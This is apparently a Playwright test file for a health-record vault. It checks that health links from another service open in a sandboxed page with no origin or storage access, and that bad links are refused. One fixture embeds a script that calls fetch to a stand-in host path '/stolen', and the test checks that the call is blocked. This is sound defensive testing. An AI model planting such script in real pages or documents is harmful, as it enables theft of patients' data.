import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { chromium, expect, test } from '@playwright/test';
import { CompactEncrypt, base64url } from 'jose';
import { accessible } from './harness/accessible';
import { address, launching, serverPort } from './harness/chromium';
import { look, stranger } from './harness/link';

const FOREIGN = 'https://sante.example';
const FILES = new URL('../../server/tests/api/tls/', import.meta.url);

/** Another service that serves links, over TLS; an address of its own that must never be asked. */
function otherService(
  answers: Record<string, () => { status: number; type: string; body: string }>,
  asked: string[],
) {
  const file = (name: string) => readFileSync(new URL(name, FILES));
  const server = createServer({ key: file('relay.key'), cert: file('relay.pem') }, (request, response) => {
    const name = (request.url ?? '/').split(/[/?]/)[1] ?? '';
    asked.push(
      `${request.method} ${request.url} ${request.headers.origin} ${request.headers.cookie ?? '-'} ${request.headers.referer ?? '-'}`,
    );
    const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'content-type' };
    request.resume().on('end', () => {
      if (request.method === 'OPTIONS') return response.writeHead(204, cors).end();
      if (name === 'moved') return response.writeHead(302, { ...cors, location: '/good' }).end();
      const { status, type, body } = answers[name]?.() ?? {
        status: 404,
        type: 'application/json',
        body: '{}',
      };
      response.writeHead(status, { ...cors, 'content-type': type }).end(body);
    });
  });
  return new Promise<Server>((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

test('a link of another service opens on a page that has no origin, no storage and no way to the vault', async () => {
  const key = base64url.encode(Buffer.alloc(32, 7));
  const header = { alg: 'dir', enc: 'A256GCM', cty: 'application/fhir+json' } as const;
  const seal = (text: string, over = {}) =>
    new CompactEncrypt(Buffer.from(text))
      .setProtectedHeader({ ...header, ...over })
      .encrypt(base64url.decode(key));
  const patient = {
    resourceType: 'Patient',
    name: [{ family: 'Okonkwo', given: ['Ada'] }],
    birthDate: '1961-04-02',
  };
  const html = Buffer.from(
    '<script>parent.postMessage(1,"*");fetch("https://sante.example/stolen")</script>',
  );
  const letterFile = {
    resourceType: 'DocumentReference',
    status: 'current',
    description: 'Lettre de sortie',
    content: [{ attachment: { contentType: 'text/html', data: html.toString('base64') } }],
  };
  const [good, letter] = [await seal(JSON.stringify(patient)), await seal(JSON.stringify(letterFile))];
  const manifest =
    (...files: object[]) =>
    () => ({
      status: 200,
      type: 'application/json',
      body: JSON.stringify({
        files: files.map((file) => ({ contentType: 'application/fhir+json', ...file })),
      }),
    });
  const asked: string[] = [];
  const server = await otherService(
    {
      good: manifest({ embedded: good }, { location: `${FOREIGN}/file` }),
      file: () => ({ status: 200, type: 'application/jose', body: letter }),
      locked: () => ({ status: 401, type: 'application/json', body: '{"remainingAttempts":4}' }),
      forged: manifest({ embedded: `${good.slice(0, -4)}${good.endsWith('AAAA') ? 'BBBB' : 'AAAA'}` }),
      insecure: manifest({ location: `http://patient.localhost:${serverPort()}/v1/about` }),
      endless: () => ({ status: 200, type: 'application/json', body: 'A'.repeat(25 << 20) }),
    },
    asked,
  );
  const { port } = server.address() as AddressInfo;
  const rules = `MAP sante.example 127.0.0.1:${port}, MAP *.localhost 127.0.0.1:${serverPort()}, MAP * ~NOTFOUND`;
  const browser = await chromium.launch(launching(serverPort(), `--host-resolver-rules=${rules}`));
  const context = await browser.newContext({
    locale: 'fr-FR',
    ignoreHTTPSErrors: true,
    acceptDownloads: true,
  });
  const linkTo = (name: string, over: object = {}) =>
    `shlink:/${base64url.encode(JSON.stringify({ url: `${FOREIGN}/${name}`, key, label: 'Résumé d’Ada', v: 1, ...over }))}`;

  // From the vault's own page: it names the service, asks nothing of it, and leads to the page apart.
  const first = await stranger(context, `${address('patient')}#${linkTo('good')}`);
  await first.evaluate(() => localStorage.setItem('cachet', 'something of the vault'));
  await first.getByText('un autre service').waitFor();
  expect(asked).toEqual([]);
  const opening = context.waitForEvent('page');
  await first.getByRole('link', { name: 'Ouvrir la page à part' }).click();
  const page = await opening;
  await page.getByText(`Ce lien est servi par ${FOREIGN}.`).waitFor();
  expect(page.url()).toBe(`${address('patient')}lien.html`);
  expect(asked).toEqual([]);
  await accessible(page, 'a link of another service, before it is asked');
  const reached = await page.evaluate(async () => {
    const attempt = (what: () => unknown) => {
      try {
        return String(what());
      } catch (failure) {
        return (failure as Error).name;
      }
    };
    const own = await fetch('/v1/about').then(String, (failure: Error) => failure.name);
    return {
      origin: self.origin,
      storage: attempt(() => localStorage.getItem('cachet')),
      cookie: attempt(() => document.cookie),
      database: attempt(() => indexedDB.open('cachet')),
      worker: attempt(() => navigator.serviceWorker.controller),
      opener: window.opener,
      own,
    };
  });
  expect(reached).toEqual({
    origin: 'null',
    storage: 'SecurityError',
    cookie: 'SecurityError',
    database: 'SecurityError',
    worker: 'SecurityError',
    opener: null,
    own: 'TypeError',
  });
  await look(page, 'Dr Klein');
  const frames = page.locator('.viewer iframe');
  await expect(frames).toHaveCount(2);
  await expect(page.frameLocator('.viewer iframe').first().locator('body')).toContainText('Okonkwo');
  await expect(page.frameLocator('.viewer iframe').nth(1).locator('body')).toContainText('script');
  await accessible(page, 'a link of another service, open');
  const waiting = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Enregistrer', exact: true }).first().click();
  expect(JSON.parse(readFileSync(await (await waiting).path(), 'utf8'))).toEqual(patient);
  // Where it came from, and whose page it was, is said to nobody.
  expect(asked.filter((line) => !line.startsWith('OPTIONS'))).toEqual([
    'POST /good null - -',
    'GET /file null - -',
  ]);

  // What is wrong is refused in words, and shows nothing.
  const before = asked.length;
  await page.getByRole('button', { name: 'Un autre lien' }).click();
  for (const [link, says] of [
    ['https://sante.example/nothing', 'Ce n’est pas un lien de santé.'],
    ['shlink:/e30', 'Ce lien est abîmé ou mal fait.'],
    [linkTo('good', { v: 2 }), 'Ce lien est plus récent que Cachet.'],
    [linkTo('good', { exp: 1_600_000_000 }), 'Ce lien est terminé.'],
    [
      linkTo('good', { url: `http://patient.localhost:${serverPort()}/v1/about` }),
      'une adresse non protégée',
    ],
  ] as const) {
    await page.getByLabel('Le lien').fill(link);
    await page.getByRole('button', { name: 'Regarder ce lien' }).click();
    await page.getByRole('alert').getByText(says).waitFor();
  }
  expect(asked.slice(before)).toEqual([]);
  for (const [name, says, over] of [
    ['unknown', 'Ce lien n’ouvre plus rien.', {}],
    ['locked', 'Il reste 4 essais.', { flag: 'P' }],
    ['forged', 'a été changé', {}],
    ['insecure', 'une adresse non protégée', {}],
    ['endless', 'trop gros', {}],
    ['moved', 'Le réseau ne répond pas.', {}],
  ] as const) {
    await page.goto('about:blank');
    await page.goto(`${address('patient')}lien.html#${linkTo(name, over)}`);
    await look(page, 'Dr Klein', 'flag' in over ? 'platane!' : undefined);
    await page.getByRole('alert').getByText(says).waitFor();
    await expect(page.locator('iframe')).toHaveCount(0);
  }
  expect(asked.some((line) => line.includes('stolen'))).toBe(false);
  await browser.close();
  server.close();
});
